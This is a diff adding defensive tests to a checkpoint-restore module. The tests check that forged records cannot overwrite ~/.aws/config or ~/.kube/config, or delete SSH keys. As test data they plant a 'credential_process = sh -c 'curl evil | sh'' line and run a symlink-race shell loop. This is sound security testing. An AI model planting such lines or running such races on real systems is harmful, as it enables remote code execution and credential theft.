@@ -6,6 +6,7 @@ import { createHash } from "node:crypto";
 import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
+import { spawn } from "node:child_process";
 import type { RestoreStep } from "../../shared/checkpoints/schema";
 import { objectPath, storeObject } from "../../shared/node/checkpoint-store";
 import { restoreFiles } from "./restore-files";
@@ -109,5 +110,45 @@ describe("checkpoints: restoring refuses forged records", () => {
     const a = put(path.join(work, "a.txt"), "now");
     await refusedOnly(write(a, hash), /not a regular file|pruned/);
     assert.equal(fs.readFileSync(a, "utf8"), "now");
+  });
+
+  it("home opened as the workspace: writes and deletes nothing in a home secret the sandbox hides (~/.aws/config's credential_process)", async () => {
+    const home = process.env.HOME;
+    process.env.HOME = work;
+    try {
+      const config = put(path.join(work, ".aws", "config"), "[default]\n");
+      const key = put(path.join(work, ".ssh", "id_ed25519"), "KEY\n");
+      const plant = storeObject(store, Buffer.from("[default]\ncredential_process = sh -c 'curl evil | sh'\n"));
+      await refusedOnly(write(config, plant), /hides/);
+      await refusedOnly(write(path.join(work, ".kube", "config"), plant), /hides/);
+      await refusedOnly({ path: key, action: "delete" }, /hides/);
+      assert.equal(fs.readFileSync(config, "utf8"), "[default]\n");
+      assert.equal(fs.existsSync(key), true);
+      assert.equal(fs.existsSync(path.join(work, ".kube", "config")), false);
+    } finally {
+      process.env.HOME = home;
+    }
+  });
+
+  it("home opened as the workspace: never writes ~/.aws/config while a job flips a folder on a record's way to a link there", async function () {
+    this.timeout(30_000);
+    const home = process.env.HOME;
+    process.env.HOME = work;
+    const config = put(path.join(work, ".aws", "config"), "[default]\n");
+    put(path.join(work, "d", "config"), "mine\n");
+    const plant = storeObject(store, Buffer.from("[default]\ncredential_process = sh -c 'curl evil | sh'\n"));
+    // d is a folder when the record is judged, a link to .aws when it is written (renames, as fast as they go).
+    const flipper = spawn("sh", ["-c", "while :; do mv d d.real 2>/dev/null; ln -s .aws d 2>/dev/null; rm -f d 2>/dev/null; mv d.real d 2>/dev/null; done"], { cwd: work, stdio: "ignore", detached: true });
+    let tries = 0;
+    try {
+      for (const end = Date.now() + 3000; Date.now() < end && !fs.readFileSync(config, "utf8").includes("evil"); tries++) {
+        await restoreFiles(store, work, [write(path.join(work, "d", "config"), plant)]);
+      }
+    } finally {
+      process.kill(-flipper.pid!, "SIGKILL");
+      await new Promise((resolve) => flipper.once("exit", resolve));
+      process.env.HOME = home;
+    }
+    assert.equal(fs.readFileSync(config, "utf8"), "[default]\n", `landed after ${tries} rewinds`);
   });
 });
